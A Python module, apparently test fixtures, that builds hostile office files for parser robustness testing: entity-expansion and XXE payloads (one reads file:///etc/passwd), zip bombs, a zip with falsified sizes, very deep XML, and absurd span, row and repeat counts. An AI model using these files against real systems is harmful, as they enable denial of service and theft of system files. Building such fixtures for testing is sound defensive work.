"""Makers of files that were built to hurt who looks at them. Small; nothing here is large."""

import io
import zipfile

import docx
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from samples.hostile.drawings import (
    form_that_draws_itself,
    forms,
    huge_picture,
    letter_of_letters,
    masks,
    nested_forms,
    shadings,
    stacked_filters,
    strokes,
    tiling,
)

PAGES = {
    "forms in forms": forms,
    "a form that draws itself": form_that_draws_itself,
    "forms three thousand deep": nested_forms,
    "strokes": strokes,
    "shadings": shadings,
    "a huge picture": huge_picture,
    "deflate in deflate": stacked_filters,
    "a letter of letters": letter_of_letters,
    "tiles": tiling,
    "masks in masks": masks,
}


def word_table(change):
    document, kept = docx.Document(), io.BytesIO()
    table = document.add_table(1, 3)
    change(table)
    document.save(kept)
    return kept.getvalue()


def wide_span(cells=300_000_000):
    """A cell that says it spans so many columns."""

    def change(table):
        table.cell(0, 0).text = "Số"
        span = OxmlElement("w:gridSpan")
        span.set(qn("w:val"), str(cells))
        table.cell(0, 0)._tc.get_or_add_tcPr().append(span)

    return word_table(change)


def tall_merge(rows=3000):
    """One cell that goes on through so many rows."""

    def change(table):
        first = table.rows[0]._tr
        first.tc_lst[0].get_or_add_tcPr().append(OxmlElement("w:vMerge"))
        for _ in range(rows - 1):
            row = OxmlElement("w:tr")
            for number in range(3):
                cell = OxmlElement("w:tc")
                if number == 0:
                    about = OxmlElement("w:tcPr")
                    about.append(OxmlElement("w:vMerge"))
                    cell.append(about)
                cell.append(OxmlElement("w:p"))
                row.append(cell)
            first.addnext(row)

    return word_table(change)


def deep_xml(depth=100_000):
    body = b"<w:tbl><w:tr><w:tc>" * depth + b"</w:tc></w:tr></w:tbl>" * depth
    return _word(body)


def many_entities():
    lines = b'<!ENTITY a "' + b"a" * 1000 + b'">'
    lines += b"".join(
        b'<!ENTITY %c "' % (98 + n) + b"&%c;" % (97 + n) * 50 + b'">' for n in range(8)
    )
    return _word(b"<w:p>&i;</w:p>", b"<!DOCTYPE d [" + lines + b"]>")


def _word(body, doctype=b""):
    plain = io.BytesIO(word_table(lambda table: None))
    made = io.BytesIO()
    space = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    xml = (
        b'<?xml version="1.0"?>' + doctype + b'<w:document xmlns:w="' + space + b'"><w:body>'
        + body + b"</w:body></w:document>"
    )  # fmt: skip
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            new.writestr(
                part.filename, xml if part.filename == "word/document.xml" else old.read(part)
            )
    return made.getvalue()


def zip_bomb(size=256 << 20):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        with package.open("word/document.xml", "w") as part:
            for _ in range(size >> 20):
                part.write(bytes(1 << 20))
    return made.getvalue()


def lying_zip(size=100 << 20):
    """A package that names small sizes for large parts."""
    made = bytearray(zip_bomb(size))
    honest = size.to_bytes(4, "little")
    return bytes(made.replace(honest, (1000).to_bytes(4, "little")))


def sheet(rows_xml):
    """An .xlsx whose first sheet holds this XML for rows."""
    parts = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": (
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f"<sheetData>{rows_xml}</sheetData></worksheet>"
        ),
    }
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return made.getvalue()


def far_row(row=1_048_576):
    cell = '<c r="A{0}" t="inlineStr"><is><t>{1}</t></is></c>'
    return sheet(
        f'<row r="1">{cell.format(1, "Số")}</row><row r="{row}">{cell.format(row, "1")}</row>'
    )


def far_column():
    return sheet(
        '<row r="1"><c r="XFD1" t="inlineStr"><is><t>Số</t></is></c></row>'
        '<row r="2"><c r="ZZZZZZ2" t="inlineStr"><is><t>1</t></is></c></row>'
    )


def far_corner():
    """Two cells, as far from each other as a sheet allows."""
    cell = '<row r="{1}"><c r="{0}{1}"><v>1</v></c></row>'
    return sheet(cell.format("A", 1) + cell.format("XFD", 1_048_576))


def open_document(row, doctype=""):
    """An .ods whose only sheet holds this row."""
    names = {"office": "office", "table": "table", "text": "text"}
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{space}:1.0"'
        for name, space in names.items()
    )
    parts = {
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": (
            f'<?xml version="1.0"?>{doctype}<office:document-content {spaces}><office:body>'
            f'<office:spreadsheet><table:table table:name="a">{row}</table:table>'
            "</office:spreadsheet></office:body></office:document-content>"
        ),
    }
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return made.getvalue()


def same_cell(times, word="1", doctype=""):
    """A cell that stands for so many columns, in a row that stands for so many."""
    cell = f'<table:table-cell office:value-type="date" office:date-value="2012-03-01" table:number-columns-repeated="{times}">'
    return open_document(
        f'<table:table-row table:number-rows-repeated="{times}">{cell}<text:p>{word}</text:p>'
        "</table:table-cell></table:table-row>",
        doctype,
    )


def endless_old_book():
    """An .xls whose parts lead back to each other."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(20) + bytes([0xFE, 0xFF, 9, 0]) + bytes(8000)


LISTS = {
    "a span of 300 million": ("a.docx", wide_span),
    "a span of two milliards": ("a.docx", lambda: wide_span(2_000_000_000)),
    "three thousand merged rows": ("a.docx", tall_merge),
    "deep xml": ("a.docx", deep_xml),
    "entities": ("a.docx", many_entities),
    "a zip bomb": ("a.docx", zip_bomb),
    "a zip bomb as a book": ("a.xlsx", zip_bomb),
    "a zip that lies": ("a.docx", lying_zip),
    "a row far away": ("a.xlsx", far_row),
    "a row beyond all": ("a.xlsx", lambda: far_row(4_000_000_000)),
    "a column far away": ("a.xlsx", far_column),
    "a corner far away": ("a.xlsx", far_corner),
    "a cell for a million": ("a.ods", lambda: same_cell(1_048_576)),
    "a cell for four milliards": ("a.ods", lambda: same_cell(4_000_000_000)),
    "entities of an open document": (
        "a.ods",
        lambda: same_cell(1, "&a;", '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
    ),
    "a zip bomb as an open document": ("a.ods", zip_bomb),
    "a zip bomb as an old book": ("a.xls", zip_bomb),
    "an old book without end": ("a.xls", endless_old_book),
}
